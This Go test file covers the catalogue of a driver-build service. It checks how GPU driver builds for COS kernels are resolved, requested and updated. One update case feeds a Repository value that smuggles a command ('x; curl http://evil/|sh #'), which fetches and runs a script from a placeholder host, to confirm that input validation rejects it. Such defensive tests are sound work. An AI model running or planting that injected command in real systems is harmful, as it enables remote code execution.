package catalogue_test

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/prebake/prebake/pkg/api"
	"github.com/prebake/prebake/pkg/fault"
	"github.com/prebake/prebake/pkg/target"
	"github.com/prebake/prebake/server/internal/catalogue"
	"github.com/prebake/prebake/server/internal/store"
)

// fakeQueue stands in for the queue. It only records what the catalogue does with it.
type fakeQueue struct {
	jobs      []api.BuildJob
	cancelled []int64
	// priorities has the priority of each job, in the order of jobs.
	priorities []int
	raised     []string
	broken     bool
}

func (t *fakeQueue) Cancel(_ context.Context, build int64) error {
	t.cancelled = append(t.cancelled, build)
	return nil
}

func (t *fakeQueue) SetPriority(_ context.Context, build int64, priority int) error {
	t.raised = append(t.raised, fmt.Sprintf("%d to %d", build, priority))
	return nil
}

func (t *fakeQueue) Insert(_ context.Context, job api.BuildJob, priority int) error {
	t.priorities = append(t.priorities, priority)
	if t.broken {
		return errors.New("no queue")
	}
	t.jobs = append(t.jobs, job)
	return nil
}

func open(t *testing.T) (*catalogue.Catalogue, *fakeQueue) {
	t.Helper()
	s, err := store.Open(t.Context(), "sqlite://"+filepath.Join(t.TempDir(), "catalogue.db"))
	if err != nil {
		t.Fatal(err)
	}
	logs, err := store.OpenLogs(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := errors.Join(s.Close(), logs.Close()); err != nil {
			t.Error(err)
		}
	})
	q := &fakeQueue{}
	noon := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	return catalogue.New(catalogue.Config{Store: s, Logs: logs, Queue: q, Repository: "/prebake/driver",
		KernelMirror: "file:///m/cos", Now: func() time.Time { return noon }}), q
}

const (
	first, second, other = "17800.0.47", "17800.1.47", "17800.0.50"
	v261, v309           = "535.261.03", "535.309.01"
)

var (
	fingerA = target.Fingerprint("sha256:" + strings.Repeat("a", 64))
	fingerB = target.Fingerprint("sha256:" + strings.Repeat("b", 64))
)

func digest(n string) string { return "sha256:" + strings.Repeat(n, 64) }

// world returns a catalogue with two drivers and three kernels, two of which share a fingerprint.
func world(t *testing.T) (*catalogue.Catalogue, *fakeQueue) {
	t.Helper()
	c, q := open(t)
	for id, f := range map[string]target.Fingerprint{first: fingerA, second: fingerA, other: fingerB} {
		k := api.Kernel{Kernel: target.Kernel{BuildID: id, Board: "lakitu", Release: "6.1.0", Arch: target.AMD64},
			Fingerprint: f, Default: v261, Latest: v309, Branches: map[string]string{"R535": v309}}
		if err := c.RecordKernel(t.Context(), k); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.RecordDrivers(t.Context(), []api.DriverRelease{
		{Version: v261, Flavours: []target.Flavour{target.Proprietary, target.Open}},
		{Version: v309, Flavours: []target.Flavour{target.Proprietary}},
	}); err != nil {
		t.Fatal(err)
	}
	return c, q
}

func request(t *testing.T, c *catalogue.Catalogue, buildID, driver, flavour string) api.Build {
	t.Helper()
	b, err := c.Request(t.Context(), api.BuildRequest{BuildID: buildID, Board: "lakitu", Driver: driver, Flavour: flavour})
	if err != nil {
		t.Fatalf("Request(%s, %s, %s) = %v", buildID, driver, flavour, err)
	}
	return b
}

func update(t *testing.T, c *catalogue.Catalogue, id int64, u api.BuildUpdate) api.Build {
	t.Helper()
	b, err := c.Update(t.Context(), id, u)
	if err != nil {
		t.Fatalf("Update(%d, %+v) = %v", id, u, err)
	}
	return b
}

func TestResolve(t *testing.T) {
	t.Parallel()
	c, _ := world(t)
	published := request(t, c, first, v261, "proprietary")
	update(t, c, published.ID, api.BuildUpdate{State: api.Building, Worker: "w", Attempt: 1})
	update(t, c, published.ID, api.BuildUpdate{State: api.Published, Digest: digest("1"), Fingerprint: fingerA})
	building := request(t, c, other, v261, "open")
	update(t, c, building.ID, api.BuildUpdate{State: api.Building, Phase: "compile"})
	failed := request(t, c, other, v261, "proprietary")
	update(t, c, failed.ID, api.BuildUpdate{State: api.Failed, Class: "api-break",
		Error: "nv-pci.c:1: error: too few arguments"})
	request(t, c, other, v309, "proprietary")
	yanked := request(t, c, first, v261, "open")
	update(t, c, yanked.ID, api.BuildUpdate{State: api.Published, Digest: digest("2")})
	if _, err := c.Yank(t.Context(), digest("2"), api.YankRequest{Reason: "panics"}); err != nil {
		t.Fatal(err)
	}
	absent := request(t, c, first, "535.1.1", "open")
	update(t, c, absent.ID, api.BuildUpdate{State: api.Failed, Class: "unsupported", Error: "release has no open modules"})
	cancelled := request(t, c, second, "550.1", "open")
	update(t, c, cancelled.ID, api.BuildUpdate{State: api.Cancelled})

	// The driver lists have a default of branch R535, but no entry for R535. The default then also serves the branch.
	bare := "17800.2.1"
	if err := c.RecordKernel(t.Context(),
		api.Kernel{Kernel: target.Kernel{BuildID: bare, Board: "lakitu"}, Default: "535.104.05"}); err != nil {
		t.Fatal(err)
	}
	rows := []struct {
		name, buildID, driver, flavour, release string
		want                                    api.State
		version                                 string
		reason                                  string // a part of the reason
	}{
		{"published", first, v261, "proprietary", "6.1.0", api.Published, v261, ""},
		{"published by default wish", first, "default", "auto", "", api.Published, v261, ""},
		{"empty wishes are default and auto", first, "", "", "", api.Published, v261, ""},
		{"auto prefers what is building over what failed", other, v261, "auto", "", api.Building, v261, "phase compile"},
		{"failed tells class and line", other, v261, "proprietary", "", api.Failed, v261, "api-break: nv-pci.c:1"},
		{"queued", other, "latest", "auto", "", api.Queued, v309, "waits"},
		{"branch", other, "R535", "auto", "", api.Queued, v309, "waits"},
		{"yanked", first, v261, "open", "", api.Yanked, v261, "panics"},
		{"sibling of one fingerprint is not enough", second, v261, "proprietary", "", api.Unknown, v261, "ABI fingerprint"},
		{"flavour absent from the release", first, v309, "open", "", api.Unsupported, v309, "no open modules"},
		{"proprietary from R620 on", first, "620.10", "proprietary", "", api.Unsupported, "620.10", "open modules only"},
		{"auto from R620 on", first, "620.10", "auto", "", api.Unknown, "620.10", "not requested"},
		{"builder found it unsupported", first, "535.1.1", "open", "", api.Unsupported, "535.1.1", "release has no open"},
		{"cancelled", second, "550.1", "open", "", api.Cancelled, "550.1", "cancelled"},
		{"never asked for", first, "550.2", "open", "", api.Unknown, "550.2", "not requested"},
		{"a branch that no label names, by the default's", bare, "R535", "auto", "", api.Unknown, "535.104.05",
			"not requested"},
		{"unknown branch", first, "R999", "auto", "", api.Unknown, "", "have no driver for"},
		{"unknown kernel, default", "1.2.3", "default", "auto", "", api.Unknown, "", "does not know kernel"},
		{"unknown kernel, exact", "1.2.3", v261, "open", "", api.Unknown, v261, "not requested"},
		{"node runs another kernel", first, v261, "proprietary", "6.6.6", api.Unsupported, "",
			"the node runs kernel release 6.6.6"},
	}
	for _, row := range rows {
		got, err := c.Resolve(t.Context(), row.buildID, "lakitu", row.driver, row.flavour, row.release)
		if err != nil {
			t.Errorf("%s: Resolve() = %v", row.name, err)
			continue
		}
		if got.State != row.want || got.Driver.Version != row.version || !strings.Contains(got.Reason, row.reason) {
			t.Errorf("%s: Resolve() = %s %q %q; want %s %q with %q", row.name, got.State, got.Driver.Version, got.Reason,
				row.want, row.version, row.reason)
		}
		if (got.State == api.Published) != (got.Digest != "" && got.Repository == "/prebake/driver") {
			t.Errorf("%s: Resolve() names %q in %q as %s", row.name, got.Digest, got.Repository, got.State)
		}
		if got.State != api.Published && got.Hint == "" {
			t.Errorf("%s: Resolve() has no hint", row.name)
		}
	}

	for _, q := range [][4]string{{"x", "lakitu", "", ""}, {first, "../x", "", ""}, {first, "lakitu", "newest", ""},
		{first, "lakitu", "", "gpl"}} {
		if _, err := c.Resolve(t.Context(), q[0], q[1], q[2], q[3], ""); !fault.Is(err, fault.Usage) {
			t.Errorf("Resolve(%v) = %v; want usage", q, err)
		}
	}

	// The artifact of a sibling kernel can be used as soon as it is attested for this COS build.
	if _, err := c.AddArtifact(t.Context(), api.NewArtifact{Digest: digest("1"), Fingerprint: fingerA,
		Driver:  target.Driver{Version: v261, Flavour: target.Proprietary},
		Kernels: []target.Kernel{{BuildID: second, Board: "lakitu"}}}); err != nil {
		t.Fatal(err)
	}
	got, err := c.Resolve(t.Context(), second, "lakitu", v261, "proprietary", "")
	if err != nil || got.State != api.Published || got.Digest != digest("1") {
		t.Errorf("Resolve(attested sibling) = %s %s, %v; want published", got.State, got.Digest, err)
	}

	// When the kernel's fingerprint has changed, the artifact does not fit any more.
	if err := c.RecordKernel(t.Context(),
		api.Kernel{Kernel: target.Kernel{BuildID: second, Board: "lakitu"}, Fingerprint: fingerB}); err != nil {
		t.Fatal(err)
	}
	got, err = c.Resolve(t.Context(), second, "lakitu", v261, "proprietary", "")
	if err != nil || got.State == api.Published {
		t.Errorf("Resolve(other fingerprint) = %s, %v; want anything but published", got.State, err)
	}

	m, err := c.Matrix(t.Context(), store.KernelFilter{}, catalogue.DriverFilter{All: true}, store.Page{})
	if err != nil {
		t.Fatal(err)
	}
	states := map[string]api.State{}
	for i, k := range m.Kernels {
		for j, d := range m.Drivers {
			for _, cell := range m.Cells[i][j] {
				states[k.BuildID+" "+d.Version+" "+string(cell.Driver.Flavour)] = cell.State
			}
		}
	}
	for key, want := range map[string]api.State{
		first + " " + v261 + " proprietary": api.Published, first + " " + v261 + " open": api.Yanked,
		other + " " + v261 + " open": api.Building, first + " " + v309 + " open": api.Unsupported,
		second + " 550.1 open": api.Cancelled,
	} {
		if states[key] != want {
			t.Errorf("matrix cell %s = %q; want %q", key, states[key], want)
		}
	}
}

func TestRequest(t *testing.T) {
	t.Parallel()
	c, q := world(t)
	b := request(t, c, first, "default", "auto")
	if b.Driver != (target.Driver{Version: v261, Flavour: target.Proprietary}) || b.State != api.Queued {
		t.Errorf("Request(default, auto) = %s %s; want %s proprietary queued", b.Driver, b.State, v261)
	}
	if again := request(t, c, first, v261, "proprietary"); again.ID != b.ID {
		t.Errorf("asking twice made build %d and %d; want one", b.ID, again.ID)
	}
	want := api.BuildJob{Build: b.ID, BuildID: first, Board: "lakitu", Driver: v261, Flavour: "proprietary",
		KernelMirror: "file:///m/cos"}
	if len(q.jobs) != 1 || q.jobs[0] != want {
		t.Errorf("queue holds %+v; want one %+v", q.jobs, want)
	}
	update(t, c, b.ID, api.BuildUpdate{State: api.Failed, Class: "transient", Error: "x"})
	retry := request(t, c, first, v261, "proprietary")
	if retry.ID == b.ID {
		t.Error("a failed build was returned instead of a new one")
	}
	update(t, c, retry.ID, api.BuildUpdate{State: api.Published, Digest: digest("1")})
	if done := request(t, c, first, v261, "proprietary"); done.ID != retry.ID || done.State != api.Published {
		t.Errorf("asking for a published cell = build %d %s; want %d published", done.ID, done.State, retry.ID)
	}
	if auto := request(t, c, first, v261, "auto"); auto.ID != retry.ID {
		t.Errorf("auto = build %d; want the published one, %d", auto.ID, retry.ID)
	}
	if _, err := c.Yank(t.Context(), digest("1"), api.YankRequest{Reason: "bad"}); err != nil {
		t.Fatal(err)
	}

	// No build of this server made this artifact. The request adds a published build for it.
	if _, err := c.AddArtifact(t.Context(),
		api.NewArtifact{Digest: digest("3"), Fingerprint: fingerB, Repository: "ghcr.io/x/y",
			Driver:  target.Driver{Version: v261, Flavour: target.Open},
			Kernels: []target.Kernel{{BuildID: other, Board: "lakitu"}}}); err != nil {
		t.Fatal(err)
	}
	if done := request(t, c, other, v261, "open"); done.State != api.Published || done.Digest != digest("3") ||
		done.ID == 0 {
		t.Errorf("asking for a foreign artifact's cell = %+v; want a published build", done)
	}

	refusals := []struct {
		name string
		r    api.BuildRequest
		want fault.Kind
	}{
		{"yanked", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v261, Flavour: "proprietary"},
			fault.Unsupported},
		{"flavour absent", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v309, Flavour: "open"},
			fault.Unsupported},
		{"no proprietary any more",
			api.BuildRequest{BuildID: first, Board: "lakitu", Driver: "620.1", Flavour: "proprietary"}, fault.Unsupported},
		{"unknown kernel by wish", api.BuildRequest{BuildID: "1.2.3", Board: "lakitu", Driver: "default"},
			fault.InputMissing},
		{"bad BUILD_ID", api.BuildRequest{BuildID: "one", Board: "lakitu", Driver: v261}, fault.Usage},
		{"bad flavour", api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v261, Flavour: "x"}, fault.Usage},
	}
	for _, row := range refusals {
		if _, err := c.Request(t.Context(), row.r); !fault.Is(err, row.want) {
			t.Errorf("%s: Request() = %v; want %v", row.name, err, row.want)
		}
	}
	// The server queues a build even for a driver version that it does not know. The build will fail and say why.
	if b := request(t, c, first, "999.1", "open"); b.State != api.Queued {
		t.Errorf("an unknown version = %s; want queued", b.State)
	}
	q.broken = true
	if b := request(t, c, first, "998.1", "open"); b.State != api.Queued {
		t.Errorf("Request() with a broken queue = %s; want queued", b.State)
	}
}

func TestUpdate(t *testing.T) {
	t.Parallel()
	published := api.BuildUpdate{State: api.Published, Digest: digest("1"), Fingerprint: fingerA}
	failed := api.BuildUpdate{State: api.Failed, Class: "transient", Error: "away"}
	state := func(s api.State) api.BuildUpdate { return api.BuildUpdate{State: s} }
	rows := []struct {
		name    string
		updates []api.BuildUpdate // all but the last must succeed
		refusal fault.Kind        // of the last update; Internal means that it must succeed
		want    api.State
	}{
		{"the whole way", []api.BuildUpdate{state(api.Building), {Phase: "compile"}, published}, 0, api.Published},
		{"handed back", []api.BuildUpdate{state(api.Building), state(api.Queued)}, 0, api.Queued},
		{"retry after failure", []api.BuildUpdate{state(api.Building), failed, state(api.Building)}, 0, api.Building},
		{"attested without building", []api.BuildUpdate{published}, 0, api.Published},
		{"the same report twice", []api.BuildUpdate{published, published}, 0, api.Published},
		{"published is final", []api.BuildUpdate{published, failed}, fault.Mismatch, api.Published},
		{"published is final for builders that wake up", []api.BuildUpdate{published, state(api.Building)}, fault.Mismatch,
			api.Published},
		{"another digest", []api.BuildUpdate{published, {State: api.Published, Digest: digest("2"), Fingerprint: fingerA}},
			fault.Mismatch, api.Published},
		{"published without digest", []api.BuildUpdate{state(api.Published)}, fault.Usage, api.Queued},
		{"bad digest", []api.BuildUpdate{{State: api.Published, Digest: "sha256:1"}}, fault.Usage, api.Queued},
		{"failed without class", []api.BuildUpdate{state(api.Failed)}, fault.Usage, api.Queued},
		{"a class of a newer builder", []api.BuildUpdate{{State: api.Failed, Class: "new-trouble"}}, 0, api.Failed},
		{"a class that is none", []api.BuildUpdate{{State: api.Failed, Class: "New trouble"}}, fault.Usage, api.Queued},
		{"a class with a hyphen at its end", []api.BuildUpdate{{State: api.Failed, Class: "new-"}}, fault.Usage, api.Queued},
		{"a long class", []api.BuildUpdate{{State: api.Failed, Class: strings.Repeat("x", 41)}}, fault.Usage, api.Queued},
		{"not a build's state", []api.BuildUpdate{state(api.Yanked)}, fault.Usage, api.Queued},
		{"bad fingerprint", []api.BuildUpdate{{Fingerprint: "x"}}, fault.Usage, api.Queued},
		{"another kernel", []api.BuildUpdate{{Kernel: &target.Kernel{BuildID: other, Board: "lakitu"}}}, fault.Mismatch,
			api.Queued},
		{"a builder that was taken for dead",
			[]api.BuildUpdate{{State: api.Building, Attempt: 2}, {Phase: "compile", Attempt: 1}}, fault.Mismatch, api.Building},
		{"its failure comes too late",
			[]api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Failed, Class: "transient", Attempt: 1}}, 0,
			api.Building},
		{"it calls off no attempt of another",
			[]api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Cancelled, Attempt: 1}}, fault.Mismatch,
			api.Building},
		{"its artifact does not",
			[]api.BuildUpdate{{State: api.Building, Attempt: 2},
				{State: api.Published, Digest: digest("1"), Fingerprint: fingerA, Attempt: 1}}, 0, api.Published},
		{"a cancelled build starts no more", []api.BuildUpdate{state(api.Cancelled), state(api.Building)}, fault.Mismatch,
			api.Cancelled},
		{"a report tells that it was called off",
			[]api.BuildUpdate{state(api.Building), state(api.Cancelled), {Phase: "compile"}}, 0, api.Cancelled},
		{"cancelled twice", []api.BuildUpdate{state(api.Cancelled), state(api.Cancelled)}, 0, api.Cancelled},
		{"what is over cannot be called off", []api.BuildUpdate{failed, state(api.Cancelled)}, fault.Mismatch, api.Failed},
		{"published before it heard", []api.BuildUpdate{state(api.Building), state(api.Cancelled), published}, 0,
			api.Published},
		{"a release that is no release",
			[]api.BuildUpdate{{Kernel: &target.Kernel{BuildID: first, Board: "lakitu", Release: strings.Repeat("6", 1000)}}},
			fault.Usage, api.Queued},
		{"an architecture that is none",
			[]api.BuildUpdate{{Kernel: &target.Kernel{BuildID: first, Board: "lakitu", Arch: "zx80"}}}, fault.Usage, api.Queued},
		{"a repository that is a command",
			[]api.BuildUpdate{{State: api.Published, Digest: digest("1"), Fingerprint: fingerA,
				Repository: "x; curl http://evil/|sh #"}}, fault.Usage, api.Queued},
		{"a phase of two lines", []api.BuildUpdate{{Phase: "a\nb"}}, fault.Usage, api.Queued},
		{"too long", []api.BuildUpdate{{Phase: strings.Repeat("x", 5000)}}, fault.Usage, api.Queued},
		{"put back with a class that is none", []api.BuildUpdate{state(api.Building), {State: api.Queued, Class: "Odd"}},
			fault.Usage, api.Building},
		{"a long error is cut", []api.BuildUpdate{{State: api.Failed, Class: "internal", Error: strings.Repeat("ü", 5000)}},
			0, api.Failed},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			t.Parallel()
			c, _ := world(t)
			b := request(t, c, first, v261, "open")
			last := len(row.updates) - 1
			for _, u := range row.updates[:last] {
				update(t, c, b.ID, u)
			}
			_, err := c.Update(t.Context(), b.ID, row.updates[last])
			if (err == nil) != (row.refusal == 0) || (err != nil && !fault.Is(err, row.refusal)) {
				t.Errorf("last update = %v; want %v", err, row.refusal)
			}
			got, err := c.Build(t.Context(), b.ID)
			if err != nil || got.State != row.want {
				t.Errorf("state = %s, %v; want %s", got.State, err, row.want)
			}
		})
	}
}
